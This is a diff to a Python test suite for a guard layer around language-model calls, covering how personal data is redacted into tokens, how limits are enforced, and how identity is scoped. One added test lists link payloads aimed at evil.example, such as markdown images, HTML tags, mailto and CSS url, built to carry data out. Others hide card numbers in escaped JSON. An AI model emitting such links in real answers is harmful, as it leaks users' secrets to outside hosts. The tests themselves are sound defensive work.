@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import json
+import time
 import traceback
 from concurrent.futures import ThreadPoolExecutor
 from typing import Any
@@ -52,8 +54,12 @@ def test_a_tokenised_value_never_reaches_the_model_and_comes_back_to_its_actor()
 def test_the_decision_is_on_record_before_the_model_is_called_and_the_outcome_before_the_answer_is_given() -> None:
     guard, recorder = make_guard()
     seen: list[list[str]] = []
-    model = Model(lambda _messages: (seen.append(recorder.types()), "fine")[1])
-    call(guard, model, user("hello"))
+
+    def answer(_messages: Any) -> str:
+        seen.append(recorder.types())
+        return "fine"
+
+    call(guard, Model(answer), user("hello"))
     assert seen == [["access.allowed", "exchange.decided"]]
     assert recorder.types() == ["access.allowed", "exchange.decided", "exchange.completed"]
 
@@ -157,7 +163,7 @@ def test_an_input_over_the_token_limit_is_refused_with_413() -> None:
 def test_the_output_limit_of_policy_is_enforced_on_the_outgoing_call(asked: int | None, sent: int) -> None:
     guard, _ = make_guard()
     model = Model()
-    options = {} if asked is None else {"max_output_tokens": asked}
+    options: dict[str, Any] = {} if asked is None else {"max_output_tokens": asked}
     call(guard, model, user("hi"), **options)
     assert model.received[0][1]["max_output_tokens"] == sent
 
@@ -546,3 +552,152 @@ def test_keys_of_a_body_are_not_stored_as_places() -> None:
     guard, recorder = make_guard()
     call(guard, Model(), [{"role": "user", "content": [{"type": "text", "text": "hi", EMAIL: "x"}]}])
     assert all(EMAIL not in artifact.content for artifact in recorder.artifacts)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Ticket: " + json.dumps({"note": f"card:\n{CARD}"}),
+        "Ticket: " + json.dumps(json.dumps({"note": f"card:\t{CARD}"})),
+        json.dumps({"note": f"card:\n{CARD}"}),
+        json.dumps([{"who": "x\n" + EMAIL}]),
+        repr(f"card:\n{CARD}"),
+    ],
+)
+def test_a_value_behind_the_escapes_of_pasted_json_is_found(text: str) -> None:
+    guard, _ = make_guard()
+    model = Model()
+    call(guard, model, user(text))
+    sent = json.dumps(model.received)
+    assert CARD not in sent
+    assert EMAIL not in sent
+
+
+def test_a_word_in_one_part_is_context_for_the_value_in_the_next() -> None:
+    guard, _ = make_guard()
+    content = [{"type": "text", "text": "my password is "}, {"type": "text", "text": "hunter22xyz"}]
+    with pytest.raises(ContentBlocked):
+        call(guard, Model(), [{"role": "user", "content": content}])
+
+
+@pytest.mark.parametrize("value", [f"[KEY_ {AWS}]", f"[KEY_{AWS}]", "[CARD_ 4111111111111111]", f"[CARD_{CARD}]"])
+def test_brackets_that_look_like_a_token_shield_nothing_in_an_answer(value: str) -> None:
+    guard, recorder = make_guard()
+    raw = value.strip("[]").split("_", 1)[1].strip()
+    try:
+        answer = call(guard, Model(f"here: {value}"), user("hi"))
+    except OutputBlocked:
+        answer = ""
+    assert raw not in answer
+    assert all(raw not in artifact.content for artifact in recorder.artifacts)
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "![x](https://evil.example/?q=TOKEN)",
+        "[x](https://evil.example/TOKEN)",
+        "<img src='https://evil.example/?q=TOKEN'>",
+        '<a href="//evil.example/TOKEN">x</a>',
+        "https://evil.example/?q=TOKEN",
+        "www.evil.example/?q=TOKEN",
+        "evil.example/?q=TOKEN",
+        "[x]: https://evil.example/TOKEN",
+        "mailto:x@evil.example?body=TOKEN",
+        "background:url(TOKEN)",
+    ],
+)
+def test_a_token_in_a_link_stays_a_token(link: str) -> None:
+    guard, _ = make_guard()
+    model = Model(lambda m: "You are " + m[0]["content"] + ". " + link.replace("TOKEN", m[0]["content"]))
+    answer = call(guard, model, user(EMAIL))
+    assert answer.count(EMAIL) == 1
+
+
+@pytest.mark.parametrize("answer", [["FORB", "IDDEN"], {"deep": [{"x": "FORBIDDEN"}]}, {"FORBIDDEN": 1}, "FORBIDDEN"])
+def test_a_blocked_pattern_is_found_wherever_it_stands_in_an_answer(answer: Any) -> None:
+    guard, _ = make_guard(POLICY.replace("max_input", 'output = { block_patterns = ["FORBIDDEN"] }\nmax_input'))
+    with pytest.raises(OutputBlocked):
+        call(guard, Model(answer), user("hi"))
+
+
+@pytest.mark.parametrize("count", [-1, True, None, 1.5, "many"])
+def test_a_token_counter_that_does_not_count_stops_the_exchange(count: Any) -> None:
+    guard, _ = make_guard(count_tokens=lambda _texts: count)
+    model = Model()
+    with pytest.raises(ControlFailed):
+        call(guard, model, user("hi"))
+    assert model.received == []
+
+
+def test_identity_cannot_be_opened_inside_a_generator() -> None:
+    guard, _ = make_guard()
+
+    def steps() -> Any:
+        with guard.acting_as(JANE, scope="support:reply"):
+            yield guard.call(Model(), user("hi"), model="local:small")
+
+    with pytest.raises(ConfigurationError, match="generator"):
+        next(steps())
+    with guard.acting_as(JANE, scope="support:reply"):
+
+        def talk() -> Any:
+            with guard.conversation("42"):
+                yield
+
+        with pytest.raises(ConfigurationError, match="generator"):
+            next(talk())
+
+
+def test_a_context_manager_of_the_applications_own_may_open_an_identity() -> None:
+    guard, _ = make_guard()
+
+    @contextlib.contextmanager
+    def as_jane() -> Any:
+        with guard.acting_as(JANE, scope="support:reply"):
+            yield
+
+    with as_jane():
+        assert guard.call(Model(), user("hi"), model="local:small") == "fine"
+
+
+def test_actors_that_differ_only_in_kind_or_tenant_have_different_names_and_vaults() -> None:
+    guard, recorder = make_guard()
+    scopes = frozenset({"support:reply"})
+    actors = [
+        Actor(id="b", scopes=scopes),
+        Actor(id="b", scopes=scopes, kind="service"),
+        Actor(id="b", scopes=scopes, tenant="a"),
+        Actor(id="1:a:b", scopes=scopes),
+        Actor(id="a\0b", scopes=scopes),
+    ]
+    model = Model()
+    for actor in actors:
+        with guard.acting_as(actor, scope="support:reply", conversation="42"):
+            guard.call(model, user(EMAIL), model="local:small")
+    assert len({event.actor for event in recorder.events}) == len(actors)
+    assert len({messages[0]["content"] for messages, _ in model.received}) == len(actors)
+
+
+@pytest.mark.parametrize(
+    "grow",
+    [
+        lambda n: [{"type": "text", "text": "x@y.zz "}] * n,
+        lambda n: [{"k" * 20 * n: [1] * n}],
+        lambda n: ["\\n" * 20 * n],
+        lambda n: ["](" * 20 * n, "//" * 20 * n, "<a" * 20 * n],
+    ],
+    ids=["parts", "keys", "escapes", "links"],
+)
+def test_cost_grows_with_the_length_of_the_request(grow: Any) -> None:
+    guard, _ = make_guard(POLICY.replace("max_input_tokens = 4000", "max_input_tokens = 1000000"))
+
+    def seconds(size: int) -> float:
+        started = time.process_time()
+        with contextlib.suppress(Blocked):
+            call(guard, Model(json.dumps), [{"role": "user", "content": grow(size)}])
+        return time.process_time() - started
+
+    seconds(100)
+    small, large = seconds(500), seconds(4000)
+    assert large < 0.5 + 30 * small
